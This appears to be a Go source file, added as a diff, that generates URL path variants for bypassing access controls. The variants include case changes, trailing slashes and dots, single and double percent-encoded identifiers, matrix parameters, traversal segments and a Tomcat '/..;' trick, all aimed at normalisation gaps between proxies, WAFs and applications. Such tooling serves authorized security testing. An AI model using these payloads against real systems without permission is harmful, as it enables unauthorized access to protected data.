@@ -0,0 +1,95 @@
+package client
+
+import (
+	"fmt"
+	"net/url"
+	"strings"
+)
+
+// PathMutation is a rewritten URL that a proxy, WAF or router may normalise
+// differently from the application's access control layer
+type PathMutation struct {
+	Technique string
+	URL       string
+}
+
+// GeneratePathMutations returns path-level bypass variants of rawURL. The last
+// path segment is treated as the object identifier. Paths are built already
+// escaped so the variants reach the server byte for byte.
+func GeneratePathMutations(rawURL string) []PathMutation {
+	u, err := url.Parse(rawURL)
+	if err != nil {
+		return nil
+	}
+
+	path := u.EscapedPath()
+	segments := strings.Split(strings.Trim(path, "/"), "/")
+	if len(segments) == 0 || segments[0] == "" {
+		return nil
+	}
+
+	last := len(segments) - 1
+	id := segments[last]
+	parent := strings.Join(segments[:last], "/")
+	if parent != "" {
+		parent = "/" + parent
+	}
+
+	var out []PathMutation
+	add := func(technique, p string) {
+		if p == path {
+			return
+		}
+		out = append(out, PathMutation{Technique: technique, URL: rebuildURL(u, p)})
+	}
+
+	// Case variations for case-insensitive routers behind case-sensitive rules
+	upperFirst := append([]string{strings.ToUpper(segments[0])}, segments[1:]...)
+	add("uppercase first segment", "/"+strings.Join(upperFirst, "/"))
+	if last > 0 {
+		add("uppercase parent path", strings.ToUpper(parent)+"/"+id)
+	}
+
+	// Trailing characters that are stripped during routing
+	add("trailing slash", path+"/")
+	add("trailing dot segment", path+"/.")
+	add("trailing encoded space", path+"%20")
+	add("trailing question mark", path+"%3f")
+	add("json extension", path+".json")
+
+	// Identifier encodings
+	rawID, err := url.PathUnescape(id)
+	if err != nil {
+		rawID = id
+	}
+	encoded := percentEncodeAll(rawID)
+	add("url-encoded id", parent+"/"+encoded)
+	add("double url-encoded id", parent+"/"+strings.ReplaceAll(encoded, "%", "%25"))
+
+	// Dot segments, matrix params and duplicate slashes
+	add("dot segment", "/"+segments[0]+"/."+strings.TrimPrefix(path, "/"+segments[0]))
+	add("matrix parameter", "/"+segments[0]+";foo"+strings.TrimPrefix(path, "/"+segments[0]))
+	add("double slash", "/"+path)
+	add("traversal", parent+"/x/../"+id)
+	add("tomcat path parameter", "/..;"+path)
+
+	return out
+}
+
+// rebuildURL swaps the path of u for an already escaped path, keeping the query
+func rebuildURL(u *url.URL, escapedPath string) string {
+	s := u.Scheme + "://" + u.Host + escapedPath
+	if u.RawQuery != "" {
+		s += "?" + u.RawQuery
+	}
+	return s
+}
+
+// percentEncodeAll encodes every byte, including unreserved characters
+func percentEncodeAll(s string) string {
+	var b strings.Builder
+	for i := 0; i < len(s); i++ {
+		fmt.Fprintf(&b, "%%%02X", s[i])
+	}
+	return b.String()
+}